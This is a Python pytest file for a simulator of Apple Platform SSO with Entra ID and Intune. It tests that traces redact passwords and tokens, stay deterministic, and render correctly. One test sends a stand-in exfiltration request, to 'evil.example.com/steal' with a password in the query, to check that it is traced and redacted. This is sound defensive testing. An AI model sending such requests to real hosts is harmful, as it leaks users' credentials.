"""The trace: every exchange, event, screen and notification, redacted, deterministic, as data and files."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest

from psso_sim.actors import Person
from psso_sim.trace import Trace, TraceEntry, TraceFileError, read_trace
from psso_sim.trace.redaction import BODY_LIMIT, fingerprint, is_secret_key, redact_body
from psso_sim.trace.render import render_entries, select_entries
from psso_sim.world import World

JWT = ("eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAiYWRlbGUifQ."
       "2zerMfKAUYeis_DHJKXWl6z2UguYeeKO4TdanMc7TXc")
JWE = "eyJhbGciOiAiZGlyIiwgImVuYyI6ICJBMjU2R0NNIn0..aXY.Y2lwaGVydGV4dA.dGFn"


def registered(seed: int = 3) -> tuple[World, Person]:
    world = World(seed=seed)
    user = world.add_user()
    person = Person(world, user, world.add_mac(owner=user))
    world.target_platform_sso()
    person.enroll_with_company_portal()
    person.register_with_company_portal()
    return world, person


@pytest.fixture(scope="module")
def run() -> tuple[World, Person]:
    world, person = registered()
    world.advance(timedelta(hours=5))  # a PRT refresh: a scheduled event and its exchange
    return world, person


# ---- redaction ---------------------------------------------------------------------------------


def test_a_fingerprint_is_short_and_the_same_for_the_same_secret() -> None:
    assert fingerprint("s3cret") == fingerprint("s3cret") != fingerprint("s3cret!")
    assert fingerprint("s3cret").startswith("<redacted sha256:")
    assert len(fingerprint("x")) == len("<redacted sha256:>") + 8


@pytest.mark.parametrize("name", ["password", "Password", "access_token", "refresh_token", "id_token", "assertion",
                                  "client_assertion", "RegistrationToken", "PushToken", "TransportKey", "Proof",
                                  "request_nonce", "Nonce", "Challenge", "FDE_PersonalRecoveryKey", "mfa_context"])
def test_credentials_are_secret_by_name(name: str) -> None:
    assert is_secret_key(name)


@pytest.mark.parametrize("name", ["username", "client_id", "token_type", "token_endpoint", "expires_in", "KeyId",
                                  "PublicKey", "refresh_token_expires_in", "grant_type", "DeviceId"])
def test_what_identifies_but_does_not_authenticate_is_kept(name: str) -> None:
    assert not is_secret_key(name)


def test_a_form_body_keeps_names_and_redacts_secrets() -> None:
    body = b"grant_type=password&username=adele%40contoso.com&password=p%40ss&refresh_token=rt.abc"
    text = redact_body(body, "application/x-www-form-urlencoded")
    assert text == (f"grant_type=password&username=adele@contoso.com&password={fingerprint('p@ss')}"
                    f"&refresh_token={fingerprint('rt.abc')}")


def test_a_json_body_is_redacted_at_any_depth_and_by_shape() -> None:
    body = json.dumps({"Facts": {"FDE_PersonalRecoveryKey": "ABCD-EFGH", "HasPassword": True},
                       "access_token": "at.1", "note": f"Bearer {JWT} then {JWE}", "UDID": "U-1"}).encode()
    data = json.loads(redact_body(body, "application/json") or "")
    assert data["Facts"] == {"FDE_PersonalRecoveryKey": fingerprint("ABCD-EFGH"), "HasPassword": True}
    assert data["access_token"] == fingerprint("at.1") and data["UDID"] == "U-1"
    assert data["note"] == f"Bearer {fingerprint(JWT)} then {fingerprint(JWE)}"


def test_a_plist_body_is_redacted_by_key() -> None:
    body = (b'<?xml version="1.0"?><plist><dict><key>RegistrationToken</key>\n\t<string>drt-123</string>'
            b"<key>PayloadDisplayName</key><string>Platform SSO</string></dict></plist>")
    text = redact_body(body, "application/x-apple-aspen-config") or ""
    assert f"<string>{fingerprint('drt-123')}</string>" in text and "drt-123" not in text
    assert "<string>Platform SSO</string>" in text


def test_bodies_are_bounded_and_binary_bodies_summarised() -> None:
    text = redact_body(b"x" * (BODY_LIMIT + 10), "text/plain") or ""
    assert text.endswith(" ...[truncated: 10 more characters]") and len(text) < BODY_LIMIT + 50
    assert redact_body(b"xar!pkg", "application/octet-stream") == "<7 bytes, application/octet-stream>"
    assert redact_body(b"\xff\xfe", None) == "<2 bytes, binary>"
    assert redact_body(b"", "application/json") is None


# ---- what the World records ---------------------------------------------------------------------


def test_every_exchange_is_one_http_entry_with_who_and_what(run: tuple[World, Person]) -> None:
    world, person = run
    exchanges = world.trace.of_kind("http")
    assert len(exchanges) == len(world.network.requests)
    token = next(e for e in exchanges if "/oauth2/v2.0/token" in e.message)
    assert token.source == "network" and token.message.endswith(" -> 200")
    detail = token.detail
    assert detail["client"] == f"{person.mac.name} (macOS {person.mac.os_version})"
    assert (detail["service"], detail["method"], detail["status"]) == ("Entra ID", "POST", 200)
    assert "grant_type=" in str(detail["request_body"]) and '"token_type": "Bearer"' in str(detail["response_body"])
    assert {e.detail["service"] for e in exchanges} >= {"Entra ID", "Intune"}


def test_no_secret_is_left_in_the_trace(run: tuple[World, Person]) -> None:
    world, person = run
    data = json.dumps(world.trace.as_data())
    tokens = person.mac.platform_sso.tokens
    assert tokens is not None
    for secret in (person.user.password, tokens.prt, "eyJ"):
        assert secret not in data
    assert '"password=<redacted sha256:' not in data and "password=<redacted sha256:" in data


def test_the_access_token_issued_is_the_one_presented(run: tuple[World, Person]) -> None:
    world, _ = run
    exchanges = world.trace.of_kind("http")
    issued = next(json.loads(str(e.detail["response_body"]))["access_token"] for e in exchanges
                  if "/oauth2/v2.0/token" in e.message)
    presented = [e.detail.get("authorization") for e in exchanges]
    assert f"Bearer {issued}" in presented


def test_an_exchange_comes_before_what_the_service_did_to_answer_it(run: tuple[World, Person]) -> None:
    world, person = run
    lines = world.trace.lines()
    device = person.mac.platform_sso.registration
    assert device is not None
    request = next(i for i, line in enumerate(lines) if "/EnrollmentServer/device/ -> 200" in line)
    assert f"registered with Entra as {device.device_id}" in "\n".join(lines[request:])


def test_events_screens_and_notifications_are_traced(run: tuple[World, Person]) -> None:
    world, person = run
    kinds = {e.kind for e in world.trace.entries}
    assert {"http", "event", "screen", "notification"} <= kinds
    assert any(e.source == "scheduler" for e in world.trace.of_kind("event"))
    screens = world.trace.of_kind("screen")
    assert all(e.detail["mac"] == person.mac.name and e.source == person.mac.name for e in screens)
    assert {e.detail["change"] for e in screens} >= {"shown", "closed"}
    notification = world.trace.of_kind("notification")[0]
    assert {"app", "title", "body", "mac"} <= set(notification.detail)
    assert person.mac.notifications.history[0].title in notification.message


def test_a_request_nothing_answers_is_traced_with_its_error() -> None:
    world = World(seed=1)
    with world.network.client("probe") as client, pytest.raises(Exception, match="no simulated service"):
        client.get("https://evil.example.com/steal?password=x")
    entry = world.trace.of_kind("http")[-1]
    assert entry.message.startswith("UNEXPECTED ") and entry.detail["status"] is None
    assert "evil.example.com" in str(entry.detail["error"])
    assert entry.detail["url"] == f"https://evil.example.com/steal?password={fingerprint('x')}"


def test_the_same_seed_gives_the_same_trace_byte_for_byte() -> None:
    first, second, other = (json.dumps(registered(seed)[0].trace.as_data()) for seed in (5, 5, 6))
    assert first == second != other


# ---- steps, data, files -------------------------------------------------------------------------


def test_entries_name_the_running_step_and_the_first_step_claims_the_world_making() -> None:
    world = World(seed=1)
    world.add_user()  # recorded while the first step's fixtures were resolved
    world.trace.record("test", "before")
    world.trace.begin_step("Given", "a user")
    world.trace.record("test", "during")
    world.trace.end_step("passed")
    world.trace.begin_step("When", "the user waits")
    world.trace.end_step("failed")
    world.trace.record("test", "after")
    trace = world.trace
    first = trace.entries[0]
    assert (first.kind, first.message, first.step) == ("step", "Given a user", "Given a user")
    assert all(e.step == "Given a user" for e in trace.entries[1:4])
    assert [e.detail["outcome"] for e in trace.of_kind("step")] == [None, "passed", None, "failed"]
    assert trace.entries[-1].step is None and trace.step is None


def test_as_data_tail_and_files_round_trip(tmp_path: Path, run: tuple[World, Person]) -> None:
    world, _ = run
    entry = world.trace.entries[0]
    data = entry.as_dict()
    assert list(data) == ["at", "kind", "source", "message", "step", "detail"]
    assert data["at"] == entry.at.isoformat() and str(entry) == str(TraceEntry(entry.at, entry.source, entry.message))
    assert world.trace.tail(3) == world.trace.entries[-3:] and world.trace.tail(0) == []
    path = world.trace.write(tmp_path / "sub" / "t.jsonl", {"seed": 3})
    header, entries = read_trace(path.read_text(encoding="utf-8"))
    assert header["seed"] == 3 and header["version"] == 1 and entries == world.trace.as_data()


@pytest.mark.parametrize(("text", "message"), [
    ("", "<trace>: holds no trace"),
    ("not json\n", "<trace>:1: not JSON"),
    ("[1]\n", "<trace>:1: a trace line is a JSON object, not list"),
    ('{"format": "psso-sim trace"}\n{"at": 1}\n', "<trace>:2: not a trace entry: no kind, source, message"),
])
def test_a_file_that_is_not_a_trace_is_named_with_its_line(text: str, message: str) -> None:
    with pytest.raises(TraceFileError) as caught:
        read_trace(text)
    assert str(caught.value).startswith(f"SIM/trace: {message}") and caught.value.exit_status == 2


def test_rendering_shows_steps_bodies_and_filters(run: tuple[World, Person]) -> None:
    world, _ = run
    trace = Trace(world.clock)
    trace.begin_step("When", "the user registers")
    trace.entries.extend(e for e in world.trace.of_kind("http")[:2])
    data = [e.as_dict() for e in trace.entries]
    lines = render_entries(select_entries(data, kinds=("http",)))
    assert " http " in lines[0] and "[network] Entra ID: " in lines[0]  # recorded outside steps: no heading
    assert any(line.startswith("    > ") for line in lines) and any(line.startswith("    < ") for line in lines)
    assert not any(line.startswith("    > ") for line in render_entries(data, bodies=False))
    assert select_entries(data, step="REGISTERS") == data[:1] and select_entries(data, tail=1) == data[-1:]
    assert render_entries(data[:1]) == ["== When the user registers =="]
    assert render_entries([*data[1:], data[0]])[-1] == "== When the user registers =="
